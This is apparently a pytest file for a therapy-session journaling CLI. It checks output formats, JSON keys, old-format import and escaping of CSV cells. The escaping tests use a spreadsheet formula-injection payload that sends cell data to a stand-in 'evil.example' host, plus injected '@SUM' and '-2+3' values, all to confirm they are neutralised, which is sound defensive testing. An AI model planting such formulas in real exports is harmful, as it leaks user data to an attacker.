"""One output switch: the same --format names everywhere, one JSON encoding of a value, one id key."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import pytest

from conftest import FULL_ANSWERS, set_flags
from exchange_support import TRICKY_PROMPTS, fill, run_bytes, tricky

OFFERED = {
    ("list",): "<table|json|jsonl|csv>",
    ("search", "x"): "<table|json|jsonl|csv>",
    ("clients",): "<table|json|jsonl|csv>",
    ("doctor",): "<table|json|jsonl|csv>",
    ("show", "1"): "<table|json>",
    ("report",): "<table|markdown|json|html>",
    ("demo",): "<table|markdown|json>",
    ("export",): "<csv|json|jsonl>",
    ("import", "x"): "<csv|json|jsonl>",
}


@pytest.mark.parametrize("command", list(OFFERED), ids=[c[0] for c in OFFERED])
def test_every_command_offers_its_formats_under_the_same_names(run, command):
    result = run(command[0], "--help")
    assert result.exit_code == 0
    line = next(line for line in result.stdout.splitlines() if "│ --format" in line)
    assert "-f" in line and OFFERED[command] in line
    assert "rich" not in result.stdout and "auto" not in result.stdout  # old names: taken, not offered


@pytest.mark.parametrize(("command", "wrong"), [("list", "markdown"), ("show", "csv"), ("export", "table")])
def test_a_format_a_command_does_not_offer_is_a_usage_error(run, command, wrong):
    run("log", "-c", "C-1", *set_flags(FULL_ANSWERS))
    args = [command, "1"] if command == "show" else [command]
    result = run(*args, "--format", wrong)
    assert result.exit_code == 2 and result.stdout == ""
    assert f"'{wrong}' is not one of" in result.stderr


def test_the_old_names_of_the_human_format_still_work(run):
    run("log", "-c", "C-1", "-d", "2026-11-02", *set_flags(FULL_ANSWERS))
    table = run("report", "--week", "2026-W45").stdout
    assert run("report", "--week", "2026-W45", "-f", "rich").stdout == table
    assert run("doctor", "-f", "text").stdout == run("doctor", "-f", "table").stdout
    assert run("doctor").stdout.split()[0] in ("ok", "note", "warning", "problem")


def test_listings_take_jsonl_too(run):
    for day in ("2026-11-02", "2026-11-09"):
        run("log", "-c", "C-1", "-d", day, *set_flags({**FULL_ANSWERS, "went_well": "We paused together."}))
    for args in (["list"], ["search", "paused"], ["clients", "--all"], ["doctor"]):
        result = run(*args, "-f", "jsonl")
        lines = result.stdout.splitlines()
        assert lines and all(isinstance(json.loads(line), dict) for line in lines), args
        assert json.loads(run(*args, "-f", "json").stdout) == [json.loads(line) for line in lines]


def test_doctor_as_csv(run):
    run("log", "-c", "C-1", *set_flags(FULL_ANSWERS))
    rows = list(csv.reader(io.StringIO(run("doctor", "-f", "csv").stdout)))
    assert rows[0] == ["level", "check", "message"] and len(rows) > 1


def test_a_session_is_one_value_under_one_id_key_in_every_json(run):
    answers = {**FULL_ANSWERS, "rupture": "yes", "rupture_kind": "withdrawal", "repaired": "partly"}
    run("log", "-c", "C-014", "-d", "2026-11-02", *set_flags(answers))
    shown = json.loads(run("show", "1", "-f", "json").stdout)
    listed = json.loads(run("list", "-f", "json").stdout)[0]
    exported = json.loads(run("export", "-f", "json", "--shape", "wide").stdout)[0]
    lines = [json.loads(line) for line in run("export", "-f", "jsonl").stdout.splitlines()]
    assert shown["session_id"] == listed["session_id"] == exported["session_id"] == 1
    assert "id" not in shown and "id" not in listed
    assert shown["answers"]["rupture"] is True and exported["rupture"] is True
    assert {k: exported[k] for k in shown["answers"]} == shown["answers"]
    assert {line["prompt_id"]: line["value"] for line in lines} == shown["answers"]
    assert all(listed[k] == shown["answers"][k] for k in ("empathy", "respect", "active_listening"))


def test_json_export_types_every_kind_and_csv_keeps_text(db_path, tmp_path):
    prompts = tmp_path / "tricky.yaml"
    prompts.write_text(TRICKY_PROMPTS)
    fill(
        db_path, tricky(), [("C-1", date(2026, 11, 2), "video", {"empathy": 4, "tags": ["+1", "three"], "done": False})]
    )

    def export(*args: str) -> bytes:
        return run_bytes("export", "--prompts", str(prompts), *args, db=db_path)[1]

    item = json.loads(export("-f", "json", "--shape", "wide"))[0]
    assert (item["empathy"], item["tags"], item["done"], item["mood"]) == (4, ["+1", "three"], False, None)
    long = json.loads(export("-f", "json"))
    assert {d["prompt_id"]: d["value"] for d in long} == {"empathy": 4, "tags": ["+1", "three"], "done": False}
    table = list(csv.reader(io.StringIO(export("--shape", "wide").decode())))
    row = dict(zip(table[0], table[1], strict=True))
    assert (row["empathy"], row["tags"], row["done"], row["mood"]) == ("4", "'+1;three", "no", "")


def test_import_still_reads_the_json_the_previous_version_wrote(tmp_path, db_path):
    """Before, JSON exports wrote yes/no answers as "yes"/"no" and several choices joined with ';'."""
    old = [
        {
            "session_id": 7,
            "uuid": "0b7f3f0e-8a1d-4c55-9b51-4c1f1f0f9a01",
            "date": "2026-11-02",
            "client": "C-1",
            "session_number": 1,
            "modality": "video",
            "empathy": 4,
            "note": None,
            "mood": None,
            "tags": "+1;three",
            "done": "no",
            "minutes": None,
            "why": None,
        }
    ]
    file = tmp_path / "old.json"
    file.write_text(json.dumps(old))
    from alliance_cli.app.imports import import_file
    from alliance_cli.store.journal import open_journal

    assert import_file(db_path, tricky(), file, today=date(2026, 11, 20)).added == 1
    with open_journal(db_path) as journal:
        session = journal.get_session(7)
    assert session is not None
    assert session.answers == {"empathy": 4, "tags": ["+1", "three"], "done": False}


def test_import_takes_auto_as_before(run, tmp_path):
    run("log", "-c", "C-1", *set_flags(FULL_ANSWERS))
    file = tmp_path / "x.csv"
    file.write_text(run("export").stdout)
    result = run("import", str(file), "--format", "auto", "--dry-run")
    assert result.exit_code == 0, result.stderr


def readme_keys() -> dict[str, list[str]]:
    """The first code span of each row of the README's "Data formats" table, by command."""
    from conftest import REPO

    text = (REPO / "README.md").read_text(encoding="utf-8")
    table = text[text.index("\n## Data formats\n") :].split("\n\n")[2]
    keys = {}
    for line in table.splitlines()[2:]:
        command, _, columns = (cell.strip() for cell in line.strip("|").split("|"))
        if "`" in columns:
            keys[command.strip("`").split()[0]] = columns.split("`")[1].split(", ")
    return keys


def test_the_readme_lists_the_keys_each_command_writes(run):
    answers = {**FULL_ANSWERS, "went_well": "We paused together."}
    run("log", "-c", "C-1", "-d", "2026-11-02", *set_flags(answers))
    documented = readme_keys()
    for command, args in {
        "list": ["list"],
        "search": ["search", "paused"],
        "clients": ["clients", "--all"],
        "doctor": ["doctor"],
        "export": ["export"],
    }.items():
        written = json.loads(run(*args, "-f", "json").stdout)
        assert list(written[0]) == documented[command], command
        assert next(csv.reader(io.StringIO(run(*args, "-f", "csv").stdout))) == documented[command], command
    assert list(json.loads(run("show", "1", "-f", "json").stdout)) == documented["show"]


# -- every CSV, one escaping ---------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&F2,"Click here")'


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_inert(table: list[list[str]]) -> None:
    from alliance_cli.ui.formats import RISKY_FIRST

    cells = [cell for row in table[1:] for cell in row]
    assert cells and not [c for c in cells if c[:1] in RISKY_FIRST]


@pytest.fixture
def formula_journal(run, db_path):
    """A formula-shaped answer, as anyone could type it, and a client code and a modality that
    could only come from a hostile or damaged journal (they are validated when written)."""
    run("log", "-c", "C-1", "-d", "2026-11-02", *set_flags({**FULL_ANSWERS, "went_well": FORMULA}))
    run("log", "-c", "C-2", "-d", "2026-11-03", *set_flags({**FULL_ANSWERS, "went_well": "A plain evil example."}))
    import sqlite3

    with sqlite3.connect(db_path) as conn:
        conn.execute("UPDATE sessions SET client = '@SUM(1,1)', modality = '-2+3' WHERE id = 2")
    return db_path


def test_search_csv_neutralises_a_formula_in_an_answer(run, formula_journal):
    from alliance_cli.ui.formats import unescape_cell

    result = run("search", "evil", "-f", "csv")
    assert result.exit_code == 0, result.stderr
    table = csv_rows(result.stdout)
    assert_inert(table)
    by_id = {row[0]: dict(zip(table[0], row, strict=True)) for row in table[1:]}
    snippet = by_id["1"]["snippet"]
    assert snippet.startswith("'=HYPERLINK(") and unescape_cell(snippet).replace("**", "") == FORMULA
    assert by_id["2"]["snippet"] == "A plain **evil** example."  # text without a formula stays as it is
    assert by_id["2"]["client"] == "'@SUM(1,1)" and by_id["1"]["client"] == "C-1"
    assert json.loads(run("search", "evil", "-f", "json").stdout)[1]["snippet"].startswith("=HYPERLINK(")


def test_list_and_clients_csv_escape_text_and_leave_numbers(run, formula_journal):
    listed = csv_rows(run("list", "-f", "csv").stdout)
    assert_inert(listed)
    rows = [dict(zip(listed[0], row, strict=True)) for row in listed[1:]]
    assert [(r["client"], r["modality"], r["empathy"], r["date"]) for r in rows] == [
        ("'@SUM(1,1)", "'-2+3", "7", "2026-11-03"),
        ("C-1", "in person", "7", "2026-11-02"),
    ]
    clients = csv_rows(run("clients", "--all", "-f", "csv").stdout)
    assert_inert(clients)
    assert sorted(row[0] for row in clients[1:]) == ["'@SUM(1,1)", "C-1"]
    assert all(row[1] == "1" for row in clients[1:])  # numbers as they are


def test_doctor_csv_escapes_its_messages(run, monkeypatch):
    from alliance_cli.app import doctor

    monkeypatch.setattr(doctor, "run_checks", lambda *a, **k: [doctor.Finding("note", "drafts", FORMULA)])
    table = csv_rows(run("doctor", "-f", "csv").stdout)
    assert table == [["level", "check", "message"], ["note", "drafts", "'" + FORMULA]]


@pytest.mark.parametrize("shape", ["long", "wide"])
def test_export_csv_escapes_the_formula_in_either_shape(run, formula_journal, shape):
    table = csv_rows(run("export", "--shape", shape).stdout)
    cells = [cell for row in table[1:] for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells
    assert "A plain evil example." in cells


def test_only_ui_formats_writes_csv():
    """One escaping for every CSV: no other module makes a CSV writer or writes rows itself."""
    from conftest import REPO

    writers = {
        str(path.relative_to(REPO / "src" / "alliance_cli"))
        for path in (REPO / "src" / "alliance_cli").rglob("*.py")
        if "csv.writer" in path.read_text() or "DictWriter" in path.read_text()
    }
    assert writers == {"ui/formats.py"}
